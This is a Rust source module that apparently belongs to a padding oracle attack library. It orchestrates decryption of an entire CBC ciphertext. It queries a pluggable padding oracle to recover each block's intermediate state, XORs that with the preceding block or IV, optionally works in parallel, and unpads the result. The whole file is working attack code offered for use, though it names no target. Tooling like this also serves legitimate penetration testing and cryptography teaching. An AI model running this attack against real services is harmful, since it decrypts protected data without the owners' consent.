// Padding oracle attack over a whole CBC ciphertext.
//
// Every block is attacked on its own: recover D(C_i) through the oracle,
// then XOR with the real C_{i-1} (or the IV) to get P_i. Blocks only read
// immutable inputs, so they can be recovered in parallel.
use crate::{
    assemble_plaintext, pkcs7_unpad, recover_intermediate, split_blocks, AttackConfig,
    AttackError, Block, PaddingOracle,
};

use rayon::prelude::*;
use tracing::{debug, info};

/// Result of attacking one block, as reported by [`Attack::recover_blocks`].
pub type BlockOutcome<const N: usize> = Result<Block<N>, AttackError>;

pub struct Attack<'a, O: ?Sized> {
    oracle: &'a O,
    config: AttackConfig,
}

impl<'a, O: ?Sized> Attack<'a, O> {
    pub fn new(oracle: &'a O) -> Self {
        Self::with_config(oracle, AttackConfig::default())
    }

    pub fn with_config(oracle: &'a O, config: AttackConfig) -> Self {
        Self { oracle, config }
    }

    pub fn config(&self) -> &AttackConfig {
        &self.config
    }

    /// Recover the plaintext of `target` given the block in front of it.
    pub fn recover_block<const N: usize>(
        &self,
        index: usize,
        previous: &Block<N>,
        target: &Block<N>,
    ) -> BlockOutcome<N>
    where
        O: PaddingOracle<N>,
    {
        debug!(block = index, "attacking block");
        let intermediate = recover_intermediate(self.oracle, target, index, self.config.scan)?;
        let plaintext = assemble_plaintext(&intermediate, previous);
        debug!(block = index, plaintext = %hex::encode(plaintext), "recovered block");
        Ok(plaintext)
    }

    /// Attack every block without stopping at failures. The outer error is
    /// only for a malformed ciphertext.
    pub fn recover_blocks<const N: usize>(
        &self,
        iv: &Block<N>,
        ciphertext: &[u8],
    ) -> Result<Vec<BlockOutcome<N>>, AttackError>
    where
        O: PaddingOracle<N>,
    {
        let pairs = chain_pairs(iv, ciphertext)?;
        let recover = |(index, previous, target): &(usize, Block<N>, Block<N>)| {
            self.recover_block(*index, previous, target)
        };
        let outcomes = if self.config.parallel_blocks {
            pairs.par_iter().map(recover).collect()
        } else {
            pairs.iter().map(recover).collect()
        };
        Ok(outcomes)
    }

    /// Recover the padded plaintext. The first failing block aborts the whole
    /// attack and the blocks recovered so far are dropped.
    pub fn decrypt_raw<const N: usize>(
        &self,
        iv: &Block<N>,
        ciphertext: &[u8],
    ) -> Result<Vec<u8>, AttackError>
    where
        O: PaddingOracle<N>,
    {
        let pairs = chain_pairs(iv, ciphertext)?;
        info!(
            blocks = pairs.len(),
            block_size = N,
            parallel = self.config.parallel_blocks,
            "starting padding oracle attack"
        );
        let recover = |(index, previous, target): &(usize, Block<N>, Block<N>)| {
            self.recover_block(*index, previous, target)
        };
        let blocks: Vec<Block<N>> = if self.config.parallel_blocks {
            pairs.par_iter().map(recover).collect::<Result<_, _>>()?
        } else {
            pairs.iter().map(recover).collect::<Result<_, _>>()?
        };
        Ok(blocks.concat())
    }

    /// Recover the plaintext and strip its padding.
    pub fn decrypt<const N: usize>(
        &self,
        iv: &Block<N>,
        ciphertext: &[u8],
    ) -> Result<Vec<u8>, AttackError>
    where
        O: PaddingOracle<N>,
    {
        let padded = self.decrypt_raw(iv, ciphertext)?;
        let plaintext = pkcs7_unpad(&padded, N)?;
        info!(bytes = plaintext.len(), "padding oracle attack finished");
        Ok(plaintext)
    }
}

// (index, true previous block, target block) for every ciphertext block.
fn chain_pairs<const N: usize>(
    iv: &Block<N>,
    ciphertext: &[u8],
) -> Result<Vec<(usize, Block<N>, Block<N>)>, AttackError> {
    let blocks = split_blocks::<N>(ciphertext)?;
    Ok(std::iter::once(iv)
        .chain(blocks.iter())
        .zip(blocks.iter())
        .enumerate()
        .map(|(index, (previous, target))| (index, *previous, *target))
        .collect())
}
